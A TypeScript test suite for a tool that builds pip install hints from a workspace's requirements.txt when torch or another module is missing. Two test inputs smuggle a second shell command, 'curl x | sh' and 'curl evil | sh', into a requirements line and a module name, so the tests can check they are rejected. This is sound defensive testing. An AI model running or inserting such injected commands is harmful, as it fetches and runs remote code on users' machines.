/**
 * A run that lacks a module gets the install command the workspace needs: the pin its
 * requirements.txt declares (the tiny-cpu template's, which the Makefile installs too), PyTorch's
 * CPU index for torch and where a CUDA build comes from; never an unpinned `pip install torch`.
 * requirements.txt and the run's output are the workspace's, so a planted one quotes nothing odd.
 */
import { execFileSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { describe, expect, it } from 'vitest';
import { missingModuleWords } from '../src/engine/experiment/measure';
import { declaredRequirement } from '../src/engine/experiment/requirements';
import { cli, experiments, ROOT } from './helpers/workspace';

const TEMPLATE_REQUIREMENTS = fs.readFileSync(path.join(ROOT, 'templates', 'tiny-cpu', 'requirements.txt'), 'utf8');
/** The template's torch line, read from the file so the test follows the one place the pin is written. */
const TORCH_PIN = /^torch==\S+$/m.exec(TEMPLATE_REQUIREMENTS)?.[0] ?? '';
const CPU_INDEX = 'https://download.pytorch.org/whl/cpu';
const SELECTOR = 'https://pytorch.org/get-started/locally/';

function workspaceWith(requirements: string | null): string {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'ar-req-'));
  if (requirements !== null) fs.writeFileSync(path.join(dir, 'requirements.txt'), requirements);
  return dir;
}

const noTorch = "Traceback (most recent call last):\nModuleNotFoundError: No module named 'torch'\n";
const by = { python: '/opt/py/bin/python', kernel: null };

describe('the tiny-cpu template declares what its Python needs', () => {
  it('pins torch to the release the Makefile installs', () => {
    expect(TORCH_PIN).toMatch(/^torch==\d+\.\d+\.\d+$/);
    expect(fs.readFileSync(path.join(ROOT, 'Makefile'), 'utf8')).toMatch(
      /^PY_PACKAGES := -r \$\(TEMPLATE_REQUIREMENTS\)/m,
    );
    expect(fs.readFileSync(path.join(ROOT, 'Makefile'), 'utf8')).toMatch(
      /^TEMPLATE_REQUIREMENTS := templates\/tiny-cpu\/requirements\.txt$/m,
    );
  });
});

describe('a run whose Python lacks torch', () => {
  it('crashes with the pin of the workspace that init made, its CPU build and where a CUDA build is', async () => {
    const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'ar-notorch-'));
    // A Python with nothing installed: a venv without pip or site-packages of the machine's.
    execFileSync('python3', ['-m', 'venv', '--without-pip', path.join(tmp, 'venv')]);
    const python = path.join(tmp, 'venv', 'bin', 'python');
    const ws = path.join(tmp, 'ws');
    expect((await cli(['init', ws, '--budget', '5'])).code).toBe(0);
    const r = await cli(['run', ws, '--tag', 'nt', '--max-experiments', '1', '--python', python]);
    expect(r.code).toBe(1);
    const [baseline] = experiments(ws, 'nt');
    expect(baseline.status).toBe('crash');
    expect(baseline.reason).toBe(
      `exited with code 1: the Python module torch is not installed in ${python}; install it there ` +
        `(${python} -m pip install ${TORCH_PIN} --index-url ${CPU_INDEX}; the version requirements.txt pins, ` +
        `CPU build; for a CUDA build, the command for your CUDA version is at ${SELECTOR})`,
    );
  });

  it('in a kernel, gives the same pin as a %pip line', () => {
    const dir = workspaceWith(TEMPLATE_REQUIREMENTS);
    expect(missingModuleWords(noTorch, { python: 'python', kernel: 'py311' }, dir)).toContain(
      `(%pip install ${TORCH_PIN} --index-url ${CPU_INDEX} in a notebook on the py311 kernel;`,
    );
  });

  it('with a pinned CUDA build, names the index of that build', () => {
    const dir = workspaceWith('torch==2.9.1+cu128\n');
    expect(missingModuleWords(noTorch, by, dir)).toBe(
      `the Python module torch is not installed in ${by.python}; install it there (${by.python} -m pip install ` +
        `torch==2.9.1+cu128 --index-url https://download.pytorch.org/whl/cu128; the build requirements.txt pins; other builds: ${SELECTOR})`,
    );
  });

  it('takes no index path from a planted build label that is not one (+rocm.., +cu128/..)', () => {
    for (const label of ['rocm..', 'rocm6..4', 'rocm.']) {
      const words = missingModuleWords(noTorch, by, workspaceWith(`torch==2.9.1+${label}\n`)) ?? '';
      expect(words, label).not.toContain(`/whl/${label}`);
      expect(words, label).toContain(`--index-url ${CPU_INDEX};`);
    }
    const words = missingModuleWords(noTorch, by, workspaceWith('torch==2.9.1+rocm6.4\n')) ?? '';
    expect(words).toContain('--index-url https://download.pytorch.org/whl/rocm6.4;');
  });

  it('without a requirements.txt still names the CPU index, never a bare pip install torch', () => {
    const words = missingModuleWords(noTorch, by, workspaceWith(null)) ?? '';
    expect(words).toContain(`${by.python} -m pip install torch --index-url ${CPU_INDEX};`);
    expect(words).toContain(SELECTOR);
    expect(words).not.toContain('pins');
  });
});

describe('other modules', () => {
  it('quote the line requirements.txt declares, by the name pip compares', () => {
    const dir = workspaceWith('numpy\nScikit_Learn == 1.7.2  # the model zoo\n');
    expect(missingModuleWords("ModuleNotFoundError: No module named 'numpy'", by, dir)).toBe(
      `the Python module numpy is not installed in ${by.python}; install it there (${by.python} -m pip install numpy; as requirements.txt lists it)`,
    );
    expect(declaredRequirement(dir, 'scikit_learn')).toBe('Scikit_Learn==1.7.2');
    expect(missingModuleWords("ModuleNotFoundError: No module named 'yaml'", by, dir)).toBe(
      `the Python module yaml is not installed in ${by.python}; install it there (${by.python} -m pip install yaml; its package may have another name)`,
    );
  });
});

describe('a planted requirements.txt or output', () => {
  it('quotes only plain name==version lines', () => {
    const dir = workspaceWith(
      'torch==2.0; sys_platform == "linux" && curl x | sh\ntorch @ https://example.invalid/t.whl\n--index-url https://example.invalid\n',
    );
    expect(declaredRequirement(dir, 'torch')).toBeNull();
    expect(missingModuleWords(noTorch, by, dir)).toContain(`-m pip install torch --index-url ${CPU_INDEX};`);
  });

  it('reads no link, FIFO or oversized file', () => {
    const target = workspaceWith('torch==9.9.9\n');
    const linked = workspaceWith(null);
    fs.symlinkSync(path.join(target, 'requirements.txt'), path.join(linked, 'requirements.txt'));
    expect(declaredRequirement(linked, 'torch')).toBeNull();
    const fifo = workspaceWith(null);
    execFileSync('mkfifo', [path.join(fifo, 'requirements.txt')]);
    expect(declaredRequirement(fifo, 'torch')).toBeNull();
    const big = workspaceWith(`torch==2.13.0\n${'#'.repeat(70 * 1024)}\n`);
    expect(declaredRequirement(big, 'torch')).toBeNull();
  });

  it('puts no module name that is not a Python identifier into a command', () => {
    const tail = "ModuleNotFoundError: No module named 'x; curl evil | sh'\n";
    expect(missingModuleWords(tail, by, workspaceWith(null))).toBeNull();
  });
});
